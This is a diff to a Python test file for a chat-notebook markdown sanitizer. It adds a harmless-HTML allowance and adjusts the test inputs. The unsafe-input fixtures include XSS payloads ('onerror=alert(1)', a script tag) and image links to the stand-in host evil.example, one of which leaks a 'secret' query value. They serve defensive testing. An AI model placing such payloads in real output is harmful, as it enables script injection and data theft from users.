@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 
 from chatnb.markdown import MarkdownSplitter, Part, neutralize, parser, preview, render, split
 from chatnb.mock.replies import markdown_sample
+from chatnb.safety import is_harmless_html
 
 from .conftest import FIXTURES
 
@@ -199,10 +200,10 @@ def test_previews_never_reach_the_final_parts() -> None:
 def unsafe_tokens(markdown: str) -> list[str]:
     found = []
     for token in parser().parse(markdown):
-        if token.type == "html_block":
+        if token.type == "html_block" and not is_harmless_html(token.content):
             found.append(token.content)
         for child in token.children or ():
-            if child.type == "html_inline":
+            if child.type == "html_inline" and not is_harmless_html(child.content):
                 found.append(child.content)
             if child.type == "image" and "example" in str(child.attrs.get("src")):
                 found.append(str(child.attrs["src"]))
@@ -214,12 +215,12 @@ def unsafe_tokens(markdown: str) -> list[str]:
     [
         "<img src=x onerror=alert(1)>\n",
         "Click <a href='https://evil.example'>here</a> now.\n",
-        "- item <b>bold</b>\n\n> quoted <i>x</i>\n",
-        "| a | b |\n|---|---|\n| <b>x</b> | <b>x</b> |\n",
+        "- item <u>bold</u>\n\n> quoted <span title=x>x</span>\n",
+        "| a | b |\n|---|---|\n| <b class=x>x</b> | <u>x</u> |\n",
         "![leak](https://evil.example/?q=secret)\n",
         "[![badge](https://evil.example/b.svg)](https://evil.example)\n",
         "![ref image][r]\n\n[r]: //evil.example/x.png\n",
-        "already escaped \\<b> and \\\\<b>real</b>\n",
+        "already escaped \\<u> and \\\\<u>real</u>\n",
         "<!-- comment -->\n<script>alert(1)</script>\n",
     ],
 )
@@ -234,21 +235,22 @@ def test_neutralize_keeps_safe_markdown_and_local_images() -> None:
     assert neutralize(text) == text
 
 
-def test_neutralize_shows_html_as_text() -> None:
-    html = render(neutralize("Hi <b>there</b>\n"))
-    assert html == "<p>Hi &lt;b&gt;there&lt;/b&gt;</p>\n"
+def test_neutralize_shows_html_as_text_but_keeps_bare_harmless_tags() -> None:
+    html = render(neutralize("Hi <u>there</u>, <b onclick=x>you</b>\n"))
+    assert html.startswith("<p>Hi &lt;u&gt;there&lt;/u&gt;, &lt;b onclick=x&gt;you")
+    assert render(neutralize("Hi <b>there</b><br>\n")) == "<p>Hi <b>there</b><br></p>\n"
 
 
 def test_each_safety_rewrite_can_be_switched_on() -> None:
-    text = "<b>x</b> ![i](https://example.com/i.png)\n"
-    assert "<b>x</b>" in neutralize(text, allow_html=True)
+    text = "<u>x</u> ![i](https://example.com/i.png)\n"
+    assert "<u>x</u>" in neutralize(text, allow_html=True)
     assert "![i]" in neutralize(text, allow_remote_images=True)
     assert neutralize(text, allow_html=True, allow_remote_images=True) == text
 
 
 def test_the_splitter_applies_safety_to_every_part() -> None:
     splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
-    for chunk in ["<b>one</b>\n\n", "![x](https://example.com/x.png)\n\n", "tail <i>"]:
+    for chunk in ["<u>one</u>\n\n", "![x](https://example.com/x.png)\n\n", "tail <span>"]:
         splitter.feed(chunk)
         splitter.advance()
         assert unsafe_tokens(splitter.preview()) == []
